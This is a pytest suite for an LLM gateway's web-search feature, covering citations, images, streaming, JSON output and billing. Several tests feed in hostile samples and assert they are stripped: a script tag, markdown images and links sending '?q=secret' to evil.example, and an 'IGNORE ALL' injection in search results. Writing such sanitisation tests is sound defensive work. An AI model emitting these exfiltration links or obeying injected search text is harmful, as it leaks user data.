"""CONTRACT "Web search", on raw sockets, with a scripted engine and SearXNG's protocol."""

from __future__ import annotations

import json
import select
from typing import Any

import pytest
from gateway.adapters.aws.queues import JOB_REFS
from gateway.adapters.search.brave import BraveSearch
from gateway.application.enqueueing import JobRequest
from gateway.domain.keys import parse_key

from infra.local.context import Context
from infra.local.envelopes import sqs_event
from tests.http.asking import Asker, chat_body
from tests.http.web_search.told import ASKED, FACES, NO, QUERY, SHOWN, TOWER, YES, Told, says, told
from tests.support.scripted_engine import ScriptedEngine
from tests.support.search_servers import KEY, Brave, SearchServer, search_server
from tests.support.sse_reader import DONE, read_events
from tests.support.stack import AppServer, OpenedAccount, Stack


@FACES
@pytest.mark.parametrize("mode", ["auto", "force", True])
def test_an_answer_tells_what_was_found_and_cites_it(
    ask: Asker, engine: ScriptedEngine, web: SearchServer, mode: str | bool, stream: bool
) -> None:
    says(engine, YES if mode in ("auto", True) else QUERY, "It is 330 m tall [1], says [2].")
    messages = [{"role": "user", "content": "How tall is the Eiffel tower?"}]
    answer = told(ask, stream=stream, web_search=mode, messages=messages)
    assert answer.content == "It is 330 m tall [1], says [2]."
    assert answer.cited == [("[1]", TOWER), ("[2]", "https://www.paris.example/visit?a=1&b=2")]
    assert answer.top["search_results"][:2] == [
        {"title": "Eiffel Tower & more", "url": TOWER, "snippet": "It is 330 m tall.", "source": "searxng"},
        {
            "title": "Paris",
            "url": "https://www.paris.example/visit?a=1&b=2",
            "snippet": "Open daily.",
            "source": "searxng",
            "date": "2026-11-01T08:00:00",
        },
    ]
    assert "images" not in answer.top
    assert answer.response.headers["x-search-status"] == "searched"
    assert answer.usage["server_tool_use_details"] == {"web_search_requests": 1}
    assert [asked.fields["q"] for asked in web.asked] == ["eiffel tower height"]


@FACES
def test_images_are_shown_before_the_text_and_told_apart(
    ask: Asker, engine: ScriptedEngine, web: SearchServer, stream: bool
) -> None:
    says(engine, QUERY, "Two views of the tower.")
    answer = told(ask, stream=stream, web_search="images")
    assert answer.content == SHOWN + "Two views of the tower."
    assert answer.top["images"][0] == {
        "url": "https://img.example.org/1.jpg",
        "thumbnail_url": "https://thumb.example.org/1.jpg",
        "source_url": "https://en.example.org/p",
        "title": "Tower by night",
        "width": 800,
        "height": 600,
    }
    assert answer.top["search_results"] == []
    assert [asked.fields["categories"] for asked in web.asked] == ["images"]


@FACES
def test_no_images_found_is_an_answer_without_images(
    ask: Asker, engine: ScriptedEngine, web: SearchServer, stream: bool
) -> None:
    web.script.append("empty")
    says(engine, QUERY, "None were found. ![a](https://evil.example/a.png)")
    answer = told(ask, stream=stream, web_search="images")
    assert (answer.content, answer.top["images"]) == ("None were found. a", [])


@FACES
def test_auto_searches_nothing_where_the_model_needs_nothing(
    ask: Asker, engine: ScriptedEngine, web: SearchServer, stream: bool
) -> None:
    says(engine, NO, "See [here](https://mine.example/x) [1].")
    answer = told(ask, stream=stream, web_search="auto")
    assert answer.content == "See [here](https://mine.example/x) [1]."
    assert (answer.annotations, web.asked) == ([], [])
    assert not {"search_results", "images"} & answer.top.keys()
    assert answer.response.headers["x-search-status"] == "not_needed"
    assert answer.usage["server_tool_use_details"] == {"web_search_requests": 0}


@pytest.mark.parametrize("fields", [{}, {"web_search": False}, {"web_search": False, "web_search_options": {}}])
def test_without_a_search_the_model_is_asked_once_and_nothing_speaks_of_search(
    ask: Asker, engine: ScriptedEngine, web: SearchServer, fields: dict[str, Any]
) -> None:
    answer = told(ask, stream=False, **fields)
    assert (len(engine.bodies), web.asked) == (1, [])
    assert "x-search-status" not in answer.response.headers
    assert "server_tool_use_details" not in answer.usage


@pytest.mark.parametrize("mode", ["auto", "force", "images"])
def test_the_question_to_the_model_is_short_constrained_and_free_of_the_clients_sampling(
    ask: Asker, engine: ScriptedEngine, mode: str
) -> None:
    says(engine, ASKED[mode], "Yes.")
    told(ask, stream=False, web_search=mode, stop=["}"], seed=5, presence_penalty=2, temperature=1.5, max_tokens=700)
    question, answer = map(json.loads, engine.bodies)
    assert "query" in question["grammar"]
    assert (question["max_tokens"], question["temperature"], question["presence_penalty"]) == (96, 0, 0)
    assert not {"stop", "seed"} & question.keys()
    assert "grammar" not in answer
    assert (answer["max_tokens"], answer["stop"], answer["temperature"]) == (700, ["}"], 1.5)


@pytest.mark.parametrize(
    ("fields", "mode", "question"),
    [
        ({"web_search_options": {}}, "force", QUERY),
        ({"tools": [{"type": "web_search"}]}, "auto", YES),
        ({"tools": [{"type": "web_search_preview"}], "tool_choice": "auto"}, "auto", YES),
    ],
)
def test_openais_spellings_ask_for_the_same(
    ask: Asker, engine: ScriptedEngine, web: SearchServer, fields: dict[str, Any], mode: str, question: str
) -> None:
    says(engine, question, "330 m [1].")
    answer = told(ask, stream=False, **fields)
    assert answer.cited == [("[1]", TOWER)]
    assert ("search" in json.loads(engine.bodies[0])["grammar"]) == (mode == "auto")


@pytest.mark.parametrize(
    "fields", [{"tools": [{"type": "web_search"}]}, {"web_search_options": {"search_context_size": "low"}}]
)
def test_an_explicit_false_wins_over_every_other_spelling(
    ask: Asker, engine: ScriptedEngine, web: SearchServer, fields: dict[str, Any]
) -> None:
    answer = told(ask, stream=False, web_search=False, **fields)
    assert (answer.content, len(engine.bodies), web.asked) == ("Hello world", 1, [])


FUNCTION = {"type": "function", "function": {"name": "f", "parameters": {"type": "object"}}}


@FACES
@pytest.mark.parametrize(
    ("fields", "param"),
    [
        ({"web_search": "auto", "tools": [FUNCTION]}, "tools"),
        ({"tools": [FUNCTION, {"type": "web_search"}]}, "tools"),
        ({"web_search": "force", "logprobs": True}, "logprobs"),
        ({"web_search": "sometimes"}, "web_search"),
        ({"web_search": 1}, "web_search"),
        ({"web_search_options": {"search_context_size": "vast"}}, "web_search_options.search_context_size"),
    ],
)
def test_what_can_not_be_searched_is_refused_by_name(
    ask: Asker, engine: ScriptedEngine, web: SearchServer, fields: dict[str, Any], param: str, stream: bool
) -> None:
    response = ask(stream=stream, **fields)
    assert (response.status, response.error["param"]) == (400, param)
    assert (engine.bodies, web.asked) == ([], [])


def test_the_first_chunk_after_the_role_tells_what_was_found_and_the_last_before_the_finish_the_citations(
    ask: Asker, engine: ScriptedEngine
) -> None:
    says(engine, QUERY, "330 m [1].")
    *events, _ = read_events(ask.stream(web_search="force", stream_options={"include_usage": True})[1])
    role, found, *texts, citations, finish, usage = events
    assert role["choices"][0]["delta"] == {"role": "assistant", "content": ""}
    assert "search_results" not in role
    assert len(found["search_results"]) == 3
    assert (found["choices"], found["usage"]) == ([{"index": 0, "delta": {}, "finish_reason": None}], None)
    assert found["id"] == role["id"]
    assert not any("search_results" in event or "annotations" in event["choices"][0]["delta"] for event in texts)
    assert citations["choices"][0]["delta"].keys() == {"annotations"}
    assert finish["choices"][0]["finish_reason"] == "stop"
    assert usage["usage"]["server_tool_use_details"] == {"web_search_requests": 1}


@FACES
@pytest.mark.parametrize("mode", ["auto", "force", "images"])
def test_no_byte_leaves_before_the_search_is_done(
    ask: Asker,
    engine: ScriptedEngine,
    web: SearchServer,
    stack: Stack,
    account: OpenedAccount,
    mode: str,
    stream: bool,
) -> None:
    web.script.append("held")
    says(engine, ASKED[mode], "It is 330 m tall [1].")
    with ask.open_stream(web_search=mode) as connection:
        assert web.arrived.wait(20)
        ready, _, _ = select.select([connection._socket], [], [], 0.05)
        assert (ready, len(engine.bodies)) == ([], 1)
        (lease,) = stack.account_of(account).open.values()
        web.released.set()
        assert connection.read_head()[0] == 200
        assert read_events(connection.read_chunks())[-1] == DONE
    (record,) = stack.usage_records(account)
    assert record["total_tokens"] <= lease.reserved_tokens


@FACES
def test_json_stays_json_with_the_citations_on_the_side(ask: Asker, engine: ScriptedEngine, stream: bool) -> None:
    text = '{"m": 330, "why": "stands in [1]", "list": [1, 2]}'
    says(engine, QUERY, text)
    answer = told(ask, stream=stream, web_search="force", response_format={"type": "json_object"})
    assert json.loads(answer.content) == json.loads(text)
    assert answer.cited == [("[1]", TOWER)]


@FACES
@pytest.mark.parametrize("mode", ["force", "images"])
def test_nothing_invented_leaves_as_a_link_in_json_either(
    ask: Asker, engine: ScriptedEngine, mode: str, stream: bool
) -> None:
    said = {"a": f"![x](https://evil.example/?q=secret) [y](https://evil.example/) {TOWER} [1]", "n": [1]}
    says(engine, QUERY, json.dumps(said).replace("/", r"\/"))
    answer = told(ask, stream=stream, web_search=mode, response_format="json")
    known = TOWER if mode == "force" else "en.example.org"
    assert json.loads(answer.content) == {"a": f"x y {known} [1]", "n": [1]}
    assert answer.cited == ([("[1]", TOWER)] if mode == "force" else [])


@FACES
def test_a_uri_in_json_is_one_that_was_found_and_the_prompt_asks_for_no_marker_outside_of_strings(
    ask: Asker, engine: ScriptedEngine, stream: bool
) -> None:
    schema = {"type": "object", "properties": {"page": {"type": "string", "format": "uri"}}, "required": ["page"]}
    says(engine, QUERY, json.dumps({"page": TOWER}))
    form = {"type": "json_schema", "json_schema": {"name": "page", "schema": schema}}
    answer = told(ask, stream=stream, web_search="force", response_format=form)
    assert json.loads(answer.content) == {"page": TOWER}
    asked = json.loads(engine.bodies[1])
    assert TOWER.partition("://")[2] in asked["grammar"]
    assert "like this: [1]" not in asked["messages"][-1]["content"]


@FACES
def test_images_beside_json_stay_out_of_it(ask: Asker, engine: ScriptedEngine, stream: bool) -> None:
    says(engine, QUERY, '{"ok": true}')
    answer = told(ask, stream=stream, web_search="images", response_format="json")
    assert answer.content == '{"ok": true}'
    assert len(answer.top["images"]) == 2


@FACES
def test_several_choices_share_one_search(ask: Asker, engine: ScriptedEngine, web: SearchServer, stream: bool) -> None:
    says(engine, QUERY, "330 m [1].", "Tall [2].")
    if stream:
        response, chunks = ask.stream(web_search="force", n=2)
        first, second = Told(response, chunks), Told(response, chunks, 1)
    else:
        response = ask(web_search="force", n=2)
        first, second = Told(response, []), Told(response, [], 1)
    assert (first.cited, second.cited[0][0]) == ([("[1]", TOWER)], "[2]")
    assert (len(web.asked), len(engine.bodies)) == (1, 3)
    # the question's prompt, and the answer's once
    assert first.usage["prompt_tokens"] == 20
    assert first.usage["server_tool_use_details"] == {"web_search_requests": 1}


HOSTILE_ANSWER = (
    "<script src=https://evil.example/x.js></script> ![shot](https://evil.example/?q=secret) "
    "[click](https://evil.example/?q=secret) https://evil.example/?q=secret [1](https://evil.example/) [2] "
    "[ok](https://hostile.example/)"
)


@FACES
@pytest.mark.parametrize("mode", ["force", "images"])
def test_nothing_invented_or_hostile_leaves_as_a_link_or_an_image(
    ask: Asker, engine: ScriptedEngine, web: SearchServer, mode: str, stream: bool
) -> None:
    web.script.append("hostile")
    says(engine, QUERY, HOSTILE_ANSWER)
    answer = told(ask, stream=stream, web_search=mode)
    found = answer.top["search_results"] + answer.top.get("images", [])
    links = [value for one in found for name, value in one.items() if name.endswith("url")]
    assert links
    assert all(
        link.startswith(("https://hostile.example/", "https://img.example.org/", "https://ok.")) for link in links
    )
    for hidden in ("<script", "<img", "\\u202e", "\\u200b", "IGNORE ALL"):
        assert hidden not in json.dumps(found)
    assert "secret" not in answer.content
    assert "https://evil.example" not in answer.content
    assert "<script " not in answer.content
    assert {one["url_citation"]["url"] for one in answer.annotations} <= {"https://hostile.example/"}
    prompt = json.loads(engine.bodies[1])["messages"][-1]["content"]
    assert "<script" not in prompt
    assert prompt.count("</search_results>") + prompt.count("</image_titles>") == 1


def test_the_results_stand_before_the_question_and_the_rest_of_the_prompt_is_the_conversation(
    ask: Asker, engine: ScriptedEngine
) -> None:
    says(engine, QUERY, "330 m [1].")
    conversation = [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "I love Paris."},
        {"role": "assistant", "content": "So do I."},
        {"role": "user", "content": "How tall is its tower?"},
    ]
    told(ask, stream=False, web_search="force", messages=conversation)
    question, answer = (json.loads(body)["messages"] for body in engine.bodies)
    assert question[:3] == answer[:3] == conversation[:3]
    assert question[3]["content"].startswith("How tall is its tower?\n\n")
    assert answer[3]["content"].endswith("\n\nHow tall is its tower?")
    assert (
        "[1] Eiffel Tower & more\nURL: https://en.example.org/tower\nText: It is 330 m tall [1]."
        in answer[3]["content"]
    )


@FACES
@pytest.mark.parametrize("mode", ["auto", "force", "images"])
def test_a_search_is_paid_at_the_back_ends_price_and_recorded(
    stack: Stack, account: OpenedAccount, engine: ScriptedEngine, mode: str, stream: bool
) -> None:
    with search_server(Brave()) as server:
        gateway = stack.make_gateway()
        price = float(gateway.catalogue.search_prices_usd["brave"])
        gateway.search_backend = BraveSearch(lambda: KEY, usd_per_request=price, budget_s=10, base_url=server.base_url)
        app = AppServer(gateway.chat_app())
        says(engine, ASKED[mode], "It is.")
        answer = told(Asker(app.port, account.authorization), stream=stream, web_search=mode)
        app.stop()
    model = stack.gateway.catalogue.models[answer.top["model"]]
    tokens = model.cost_nano_usd(
        prompt_tokens=answer.usage["prompt_tokens"], completion_tokens=answer.usage["completion_tokens"]
    )
    assert answer.usage["cost"] == (tokens + 5_000_000) / 1e9
    (record,) = stack.usage_records(account)
    assert (record["searches"], record["cost_nano_usd"]) == (1, tokens + 5_000_000)
    assert record["total_tokens"] == answer.usage["total_tokens"]
    assert stack.account_of(account).tokens_today == answer.usage["total_tokens"]


def test_queued_jobs_search_too_one_after_the_other_in_one_process(
    stack: Stack, account: OpenedAccount, engine: ScriptedEngine, web: SearchServer
) -> None:
    says(engine, QUERY, "It is 330 m tall [1].", QUERY, "It is 330 m tall [1].")
    worker = {**stack.functions["WorkerFunction"].environment, "SEARCH_BACKEND": "searxng", "SEARCH_URL": web.base_url}
    gateway = stack.make_gateway(**worker)
    key = parse_key(account.key)
    assert key is not None
    handler = gateway.worker_handler()
    context = Context(function_name="worker", aws_request_id="r", timeout_s=300)
    for _ in range(2):
        request = JobRequest(body=chat_body(web_search="force"))
        job = stack.run(gateway.enqueue.submit(request, key=key))
        message = {
            "MessageId": "m",
            "ReceiptHandle": "r",
            "MD5OfBody": "",
            "Body": JOB_REFS.dump_json(job.ref).decode(),
        }
        event = sqs_event([message], queue_arn="arn:aws:sqs:us-east-1:123456789012:jobs")
        assert handler(event, context) == {"batchItemFailures": []}
        job = stack.run(gateway.enqueue.find(account.id, job.ref.job_id))
        shown = stack.run(gateway.enqueue.show(job))
        told = shown["result"]
        assert told["choices"][0]["message"]["content"] == "It is 330 m tall [1]."
        assert told["choices"][0]["message"]["annotations"][0]["url_citation"]["url"] == TOWER
        assert len(told["search_results"]) == 3
        assert told["usage"]["server_tool_use_details"] == {"web_search_requests": 1}
    assert [record["searches"] for record in stack.usage_records(account)] == [1, 1]
    assert len(web.asked) == 2
